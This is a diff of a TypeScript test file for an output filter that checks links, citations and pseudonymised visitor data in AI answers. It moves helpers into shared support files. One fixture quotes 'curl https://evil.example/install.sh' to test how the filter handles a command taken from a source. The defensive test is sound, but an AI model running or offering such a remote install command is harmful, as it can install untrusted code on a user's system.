@@ -3,6 +3,8 @@ import { describe, expect, it } from "vitest";
 import { AnswerWriter } from "../../../src/answering/verify.ts";
 import { linkPolicy, OutputFilter } from "../../../src/guards/output-filter.ts";
 import { Pseudonyms } from "../../../src/privacy/pseudonyms.ts";
+import { citedSource } from "../../support/cited-source.ts";
+import { cutAt } from "../../support/cut.ts";
 import { linksOutsideCode, refusedLinks, renderedLinks } from "../../support/rendered-links.ts";
 
 const mayLinkTo = linkPolicy(
@@ -13,16 +15,6 @@ const mayLinkTo = linkPolicy(
 function filtered(text: string, pieces = [text]): string {
   const filter = new OutputFilter(mayLinkTo);
   return pieces.map((piece) => filter.push(piece)).join("") + filter.end();
-}
-
-function cutAt(text: string, sizes: number[]): string[] {
-  let rest = text;
-  const pieces = sizes.map((size) => {
-    const piece = rest.slice(0, size);
-    rest = rest.slice(size);
-    return piece;
-  });
-  return [...pieces, rest];
 }
 
 const SPACES = [" ", "  ", "\n", "\n\n", "\t", "\u00A0", "\u3000", "\u2028"];
@@ -91,16 +83,7 @@ describe("a filtered answer", () => {
 
   it("is the same however the stream is cut, with its citations checked and the visitor's data put back", () => {
     const passage = "You can return any item within 30 days of delivery.";
-    const passages = [{ chunkId: 1, ordinal: 0, headingPath: [], text: passage }];
-    const source = {
-      n: 1,
-      externalId: "a",
-      title: "A",
-      url: null,
-      version: 1,
-      readerVersion: 1,
-      passages,
-    };
+    const source = citedSource(passage);
     const pseudonyms = new Pseudonyms(["joe@mine.example"]);
     pseudonyms.hide("joe@mine.example");
     const model = { prompt: { mark: "¦", rules: "", messages: [] }, pseudonyms };
@@ -267,16 +250,7 @@ describe("an answer with code that the sources hold", () => {
 
   it("quotes a command of a source with its address, and no other address", () => {
     const text = "Run `curl https://evil.example/install.sh` first. See https://evil.example/more.";
-    const passages = [{ chunkId: 1, ordinal: 0, headingPath: [], text }];
-    const source = {
-      n: 1,
-      externalId: "a",
-      title: "A",
-      url: null,
-      version: 1,
-      readerVersion: 1,
-      passages,
-    };
+    const source = citedSource(text);
     const writer = new AnswerWriter([source], mayLinkTo);
     const shown = writer.push(`${text} \`https://evil.example/other\``) + writer.end();
     expect(shown).toBe(
